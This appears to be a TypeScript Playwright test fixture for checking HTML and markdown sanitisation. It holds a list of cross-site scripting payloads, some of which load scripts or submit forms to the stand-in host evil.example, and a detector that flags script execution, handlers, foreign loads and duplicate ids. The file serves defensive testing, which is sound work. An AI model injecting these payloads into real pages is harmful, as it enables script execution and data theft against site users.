import type { Page } from "playwright-core";

/** Whatever of this runs sets `window.pwned`; whatever loads asks a site that is none of ours. */
export const scripts: readonly string[] = [
  "<script>window.pwned=1</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=window.pwned=1>",
  "<img src=https://evil.example/pixel.png>",
  "![pixel](https://evil.example/pixel.png)",
  '![x](x "onerror=window.pwned=1")',
  "<svg onload=window.pwned=1>",
  "<svg><script>window.pwned=1</script></svg>",
  "<svg><a xlink:href=javascript:window.pwned=1><text y=20>press</text></a></svg>",
  "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  "<iframe src=javascript:parent.pwned=1></iframe>",
  "<object data=javascript:window.pwned=1></object><embed src=javascript:window.pwned=1>",
  "<style>*{background:url(https://evil.example/style)} @import '//evil.example/x.css';</style>",
  "<p style=background:url(https://evil.example/style)>styled</p>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<meta http-equiv=refresh content="0;url=https://evil.example/refresh">',
  "<base href=https://evil.example/>",
  "<form action=https://evil.example/><button name=order value=approve>Approve</button></form>",
  "<input type=hidden name=csrf value=x><input autofocus onfocus=window.pwned=1>",
  "<details open ontoggle=window.pwned=1><summary>unfold</summary></details>",
  "<video><source onerror=window.pwned=1></video><audio src=x onerror=window.pwned=1>",
  "<body onload=window.pwned=1>",
  "<a href=javascript:window.pwned=1>press</a>",
  "<a href='jav&#x09;ascript:window.pwned=1'>press</a>",
  "[press](javascript:window.pwned=1)",
  "[press](JaVaScRiPt&colon;window.pwned=1)",
  "[press](<java\tscript:window.pwned=1>)",
  "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
  "[press](vbscript:window.pwned=1)",
  "[press][named]\n\n[named]: javascript:window.pwned=1",
  "<javascript:window.pwned=1>",
  "[a](x 'onmouseover=window.pwned=1')",
  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  "&#60;img src=x onerror=window.pwned=1&#62;",
  "</textarea><script>window.pwned=1</script>",
  "</title><script>window.pwned=1</script>",
  "</pre></code></main></body><script>window.pwned=1</script>",
  "--><script>window.pwned=1</script><!--",
  "<![CDATA[<script>window.pwned=1</script>]]>",
  "`<script>window.pwned=1</script>`",
  "\"'><script>window.pwned=1</script>",
  '" autofocus onfocus=window.pwned=1 x="',
  "' onmouseover=window.pwned=1 '",
  "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
  "<div id=main data-part=questions data-live=//evil.example></div><a id=news name=live>",
  "<scr\0ipt>window.pwned=1</scr\0ipt>",
  "\u2028<script>window.pwned=1</script>\u2029",
  "\u202E<script>window.pwned=1</script>",
];

/** The same for what has to be short, and on one line: it breaks out of a text, of an attribute, of a link's address. */
export const name = `"'><img src=x onerror=window.pwned=1>`;

/**
 * What stands in a page and must not: elements that load or run, addresses that run, handlers, styles; what asks
 * another site; and two of what there may be one of.
 */
export function foreign(page: Page, html: string | null = null): Promise<readonly string[]> {
  return page.evaluate((given) => {
    const at = given === null ? document : new DOMParser().parseFromString(given, "text/html");
    const found: string[] = [];
    if ("pwned" in window) found.push("a script ran");
    /** A chart of our own: shapes and words, and nothing that loads or leads anywhere. */
    const isChart = (one: Element): boolean =>
      one.matches("main svg.chart[role=img]") &&
      [...one.querySelectorAll("*")].every((part) => /^(desc|text|line|rect)$/.test(part.localName));
    const note = (why: string, one: Element) => found.push(`${why}: ${one.outerHTML.slice(0, 200)}`);
    for (const one of at.querySelectorAll("*")) {
      const name = one.localName;
      if (
        !isChart(one) &&
        /^(iframe|frame|object|embed|applet|base|style|img|picture|video|audio|source|math|svg|image)$/.test(
          name,
        )
      )
        note("element", one);
      if (name === "script" && !/^\/-\/assets\/[\w-]+\/page\.js$/.test(one.getAttribute("src") ?? ""))
        note("script", one);
      if (name === "link" && one.getAttribute("href")?.startsWith("/-/assets/") !== true) note("link", one);
      if (name === "meta" && one.hasAttribute("http-equiv")) note("meta", one);
      if (name === "form" && !/^\/(?!\/)/.test(one.getAttribute("action") ?? "")) note("form", one);
      for (const { name: attribute, value } of one.attributes) {
        if (attribute.startsWith("on")) note("handler", one);
        if (attribute === "style" || attribute === "srcdoc") note("attribute", one);
        if (/^(href|src|action|formaction|xlink:href|data)$/.test(attribute)) {
          const { protocol } = new URL(value, location.href);
          if (!/^(https?|mailto):$/.test(protocol)) note("address", one);
        }
      }
    }
    const ids = [...at.querySelectorAll("[id]")].map(({ id }) => id);
    for (const id of new Set(ids))
      if (ids.filter((one) => one === id).length > 1) found.push(`id twice: ${id}`);
    const parts = [...at.querySelectorAll("[data-part]")].map((one) => one.getAttribute("data-part"));
    if (new Set(parts).size !== parts.length) found.push(`parts twice: ${parts.join(" ")}`);
    return found;
  }, html);
}
